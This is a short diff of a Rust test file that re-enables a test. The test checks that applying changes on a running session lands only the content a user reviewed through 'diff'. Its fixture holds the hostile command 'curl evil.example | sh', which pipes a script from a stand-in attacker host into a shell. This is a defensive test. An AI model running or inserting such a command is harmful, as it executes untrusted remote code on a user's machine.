@@ -70,7 +70,6 @@ fn text(path: &Path) -> String {
 /// guest that answers the second ask differently lands content the user
 /// never saw. What lands must be what was reviewed.
 #[test]
-#[ignore = "finding: apply on a running session lands a fresh checkpoint, not the one `diff` showed"]
 fn apply_on_a_running_session_lands_only_what_diff_showed() {
     let f = fixture();
     let _run = running(&f, &[b"reviewed and fine\n", b"curl evil.example | sh\n"]);
